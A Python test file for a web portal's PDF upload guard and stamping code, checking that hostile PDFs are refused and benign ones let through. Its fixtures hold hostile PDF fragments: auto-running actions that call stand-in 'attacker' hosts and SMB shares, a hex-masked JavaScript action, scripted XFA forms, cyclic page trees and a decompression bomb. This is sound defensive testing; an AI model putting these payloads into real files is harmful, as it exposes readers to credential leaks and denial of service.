"""PDFs that act by themselves in a roundabout way, ask another place, or multiply their pages."""

import zlib
from io import BytesIO
from time import monotonic

import pytest
from django.core.exceptions import ValidationError

from protect_portal.files.guard import check_upload
from protect_portal.files.guard.pdf import MAX_PAGES
from protect_portal.files.stamp import Unstampable, stamped
from tests.files.hostile import folded_pages, opening_jump, pdf_of, pdf_of_pages, pdf_saying, stream_of

XFA = b"<template><subform><event><script contentType='application/x-javascript'>app.alert(1)</script></event></subform></template>"
SHARE = rb"<</S/GoToR/F(\\\\attacker\\share\\x.pdf)/D[0/Fit]>>"
PAGE = b"<</Type/Page/MediaBox[0 0 9 9]>>"

HOSTILE = {
    # what follows a harmless action
    "web page after a jump": (lambda: opening_jump(b"<</S/URI/URI(http://attacker/x)>>"), "script"),
    "file of a share after a jump": (lambda: opening_jump(b"[" + SHARE + b"]"), "script"),
    "form sent after a jump": (lambda: opening_jump(b"<</S/SubmitForm/F(http://attacker)>>"), "script"),
    "web page after two jumps": (lambda: opening_jump(b"[<</S/GoTo/Next[<</S/GoTo>><</S/URI/URI(http://a)>>]>>]"), "script"),
    "web page after an event": (
        lambda: pdf_saying(b"/AA<</WC<</S/Hide/Next 4 0 R>>>>", b"<</S/GoTo/Next 5 0 R>>", b"[6 0 R]", b"<</S/URI/URI(http://a)>>"),
        "script",
    ),
    "web page in a circle of jumps": (
        lambda: pdf_saying(b"/OpenAction 4 0 R", b"<</S/GoTo/Next 5 0 R>>", b"<</S/GoTo/Next[4 0 R 5 0 R 6 0 R]>>", b"<</S/URI>>"),
        "script",
    ),
    "script of a masked name": (lambda: pdf_saying(b"/OpenAction<</S/J#61vaScript/#4AS(app.alert(1))>>"), "script"),
    # what stands elsewhere
    "picture from the web": (
        lambda: pdf_saying(b"", stream_of(b"/Type/XObject/Subtype/Image/F<</FS/URL/F(http://attacker/x)>>")),
        "external",
    ),
    "page of another file": (
        lambda: pdf_saying(b"", stream_of(rb"/Type/XObject/Subtype/Form/Ref<</F(\\\\attacker\\x.pdf)/Page 0>>")),
        "external",
    ),
    # forms with a program of their own
    "form that is a program": (lambda: pdf_saying(b"/AcroForm<</Fields[]/XFA 4 0 R>>", stream_of(b"", XFA)), "form"),
    "form that is a program, in parts": (lambda: pdf_saying(b"/AcroForm<</Fields[]/XFA[(template)4 0 R]>>", stream_of(b"", XFA)), "form"),
    # trees of pages
    "page twice": (lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 2/Kids[3 0 R 3 0 R]>>", PAGE), "broken"),
    "tree in a circle": (lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 2/Kids[3 0 R 2 0 R]>>", PAGE), "broken"),
    **{f"folded {levels} times": (lambda levels=levels: folded_pages(levels), "broken") for levels in (2, 4, 5, 9)},
    "too many pages": (lambda: pdf_of_pages(MAX_PAGES + 1), "pages"),
    "too many pages without numbers": (
        lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[%s]>>" % (PAGE * (MAX_PAGES + 1))),
        "pages",
    ),
}

GOOD = {
    "jumps in a circle": lambda: pdf_saying(b"/OpenAction 4 0 R", b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", b"<</S/GoTo/Next[4 0 R]>>"),
    "web page that somebody presses": lambda: pdf_saying(b"", b"<</Subtype/Link/F 4/A<</S/URI/URI(http://a)/Next<</S/URI>>>>>>"),
    "form": lambda: pdf_saying(b"/AcroForm<</Fields[]>>"),
    "many pages": lambda: pdf_of_pages(MAX_PAGES),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_pdfs_stay_out(case):
    make, code = HOSTILE[case]
    file, start = make(), monotonic()
    with pytest.raises(ValidationError) as refusal:
        check_upload(file)
    assert (refusal.value.code, monotonic() - start < 5) == (code, True)


@pytest.mark.parametrize("case", GOOD)
def test_good_pdfs_come_in(case):
    assert check_upload(GOOD[case]()) == "pdf"


@pytest.mark.parametrize("levels", [2, 3, 5])
def test_a_folded_tree_is_not_stamped_either(levels):
    """One may have come in before the guard knew of them."""
    content, start = BytesIO(folded_pages(levels).read()), monotonic()
    with pytest.raises(Unstampable):
        stamped(content, "Ana · 25.11.2026")
    assert monotonic() - start < 2


def test_pages_that_share_one_large_drawing_are_not_stamped():
    """Ten kilobytes would become a gigabyte."""
    drawing = zlib.compress(b"10 20 m 30 40 l S\n" * 200_000)
    pages = [b"<</Type/Page/Parent 2 0 R/Contents 3 0 R/MediaBox[0 0 9 9]>>"] * 300
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(300))
    tree = b"<</Type/Pages/Count 300/Kids[%s]>>" % kids
    file = pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", tree, stream_of(b"/Filter/FlateDecode", drawing), *pages)
    with pytest.raises(Unstampable):
        stamped(file, "Ana · 25.11.2026")


def test_stamping_ends_with_its_clock():
    with pytest.raises(Unstampable):
        stamped(pdf_of_pages(2), "Ana · 25.11.2026", seconds=-1)
